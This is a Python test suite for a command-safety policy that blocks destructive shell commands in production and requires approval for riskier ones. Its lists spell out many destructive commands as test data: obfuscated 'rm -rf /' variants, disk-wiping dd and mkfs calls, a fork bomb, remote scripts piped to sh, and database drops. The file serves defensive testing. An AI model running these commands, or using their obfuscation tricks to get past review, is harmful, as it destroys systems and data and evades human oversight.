"""Tricks that hide a destructive command from a reader of its text: each is seen through, or at least stopped."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from afield.runbooks.model import Environment
from afield.runbooks.policy import Verdict, judge, judge_query

PROD = Environment.PROD
_ENCODED = base64.b64encode(b"rm -rf /").decode()

BLOCKED = [
    "rm -rf /",
    "r''m -rf /",
    'r"m" -rf /',
    '"rm" "-rf" "/"',
    r"\rm -rf /",
    r"r\m -r\f /",
    "rm \\\n -rf \\\n /",
    "/bin/rm -rf /",
    "/usr/bin/../bin/rm -rf //",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "IFS=,;a=rm,-rf,/;$a",
    "{rm,-rf,/}",
    "a=rm; $a -rf /",
    "a=r; b=m; $a$b -rf /",
    'a="rm -rf /"; $a',
    "a=xrmx; ${a:1:2} -rf /",
    "A=RM; ${A,,} -rf /",
    "a=rxm; ${a/x/} -rf /",
    "a=b; b=rm; ${!a} -rf /",
    "r${unset}m -rf /",
    "r$@m -rf /",
    "${nothing:-rm} -rf /",
    "printf -v a rm; $a -rf /",
    r"$'\x72\x6d' -rf /",
    r"$'\162m' -rf /",
    "rm -rf /tmp/../",
    "rm -rf /./",
    "rm -r -f -- /",
    "rm --recursive --force /*",
    "rm -rf ~",
    'rm -rf "$HOME"/*',
    "cd / && ls; rm -fr /usr",
    "true || rm -rf /etc",
    "if false; then rm -rf /; fi",
    "f() { rm -rf /; }; f",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    'echo "x $(rm -rf /) y"',
    "ls <(rm -rf /)",
    "$(echo rm) -rf /",
    "$(printf 'r%s' m) -rf /",
    "$(echo cm0K | base64 -d) -rf /",
    "$(echo mr | rev) -rf /",
    "$(echo sn | tr sn rm) -rf /",
    "$(echo 726d | xxd -r -p) -rf /",
    f"echo {_ENCODED} | base64 -d | sh",
    f"base64 --decode <<< {_ENCODED} | bash",
    "echo 'rm -rf /' | bash",
    "printf 'rm -rf /' | sudo bash",
    "bash <<< 'rm -rf /'",
    "bash <<EOF\nrm -rf /\nEOF",
    "cat <<'EOF' | sh\nrm -rf /\nEOF",
    "source <(echo 'rm -rf /')",
    "bash -c 'rm -rf /'",
    "sudo -u app bash -xc 'rm -rf /'",
    "eval 'rm -rf /'",
    "a='-rf /'; eval rm $a",
    'eval "r""m -rf /"',
    "trap 'rm -rf /' EXIT",
    "sudo -n env A=b nice -n 5 timeout -k 5 10 rm -rf /",
    "command rm -rf /",
    "exec rm -rf /",
    "busybox rm -rf /",
    "nohup setsid rm -rf / &",
    "echo / | xargs rm -rf",
    "echo -rf / | xargs -n 2 rm",
    "xargs rm -rf / < list",
    "find / -exec rm -rf {} +",
    "find / -type f -delete",
    "for x in / /etc; do rm -rf $x; done",
    "case a in a) rm -rf /;; esac",
    "su - app -c 'rm -rf /'",
    "ssh host 'rm -rf /'",
    "python3 -c 'import os; os.system(\"rm -rf /\")'",
    "perl -e 'system(\"rm -rf /\")'",
    "awk 'BEGIN { system(\"rm -rf /\") }'",
    "dd if=/dev/zero of=/dev/sda",
    "dd if=/dev/zero of=/dev/../dev/sda bs=1M",
    "cat image > /dev/sda",
    "echo x | tee /dev/nvme0n1",
    "mkfs.ext4 /dev/sdb1",
    "mkfs -t ext4 /dev/sdb1",
    "wipefs -a /dev/sdb",
    "chmod -R 777 /",
    "chown -R app /etc",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "echo b > /proc/sysrq-trigger",
    "mv data /dev/null",
    "curl -s http://host/x | sh",
    "curl -s http://host/x | gunzip | sudo bash -s -- arg",
    "bash <(curl -s http://host/x)",
    'eval "$(curl -s http://host/x)"',
    "wget -qO- http://host/x | python3",
    "base64 -d payload | sh",
    "openssl enc -d -in payload | bash",
    "shutdown -h now",
    "iptables -F",
    "systemctl stop walinuxagent",
    "psql -c 'DROP TABLE users'",
    "psql <<EOF\ndrop\n  table users;\nEOF",
    "echo 'truncate table users' | mysql app",
    "mysql -e 'drop database app'",
    "redis-cli FLUSHALL",
    "kubectl -n app delete namespace app",
    "terraform destroy -auto-approve",
    "sed -i s/x/y/ /etc/sudoers",
]

APPROVED = [
    "reboot",
    "userdel alice",
    "python3 -c 'import shutil; shutil.rmtree(\"x\")'",
    "echo bHM= | base64 -d | sh",
    "git clean -fdx",
    "docker system prune -af",
    "kubectl delete pod web-1",
    "history -c",
    "HISTFILE=/dev/null",
    "unset HISTFILE",
    "crontab -r",
    "psql -c 'delete from users'",
    "/bin/r? -rf x",
    '"$COMMAND" --now',
    'eval "$COMMAND"',
    'rm -rf "$FOLDER"',
    'rm -rf "$FOLDER"/*',
    "rm -rf *",
    "rm -rf /srv/app/cache",
    "rm -f /var/log/*",
    "az vm delete -n web",
    "aws s3 rm s3://bucket --recursive",
]


@pytest.mark.parametrize("command", BLOCKED)
def test_it_is_blocked_in_production(command: str) -> None:
    judgement = judge(command, PROD)
    assert judgement.verdict is Verdict.BLOCKED, judgement


@pytest.mark.parametrize("command", APPROVED)
def test_it_needs_approval_in_production(command: str) -> None:
    judgement = judge(command, PROD)
    assert judgement.verdict is Verdict.NEEDS_APPROVAL, judgement


@given(st.text(max_size=200) | st.text("\"'`$(){}<>|&;\\\n #ab=", max_size=60))
@settings(deadline=None, max_examples=200)
def test_any_text_is_judged(text: str) -> None:
    judge(text, PROD)
    assert judge(f"rm -rf /\n{text}", PROD).verdict is Verdict.BLOCKED


@pytest.mark.parametrize("piece", ["$(", "`", "{a,", "${a:-", "((", "<<E\n", "a=$a$a;", "bash -c '", "{a,b}", "| sh "])
def test_endless_nesting_ends(piece: str) -> None:
    judge(piece * 2_000, PROD)


def test_what_cannot_be_followed_needs_a_person() -> None:
    assert judge("$(" * 20 + "ls" + ")" * 20, PROD).verdict is not Verdict.OK


@pytest.mark.parametrize("text", ["x" * 60_000, "echo hello\n" * 5_000, "update t set a=1 " * 500, "( " * 30_000])
def test_long_texts_take_no_long_time(text: str) -> None:
    """Each of these took minutes with an expression that backtracks; the limit of the test is what fails then."""
    judge(text, PROD)
    judge_query(text, PROD)
    assert judge_query("x " * 10_000, PROD).verdict is Verdict.NEEDS_APPROVAL
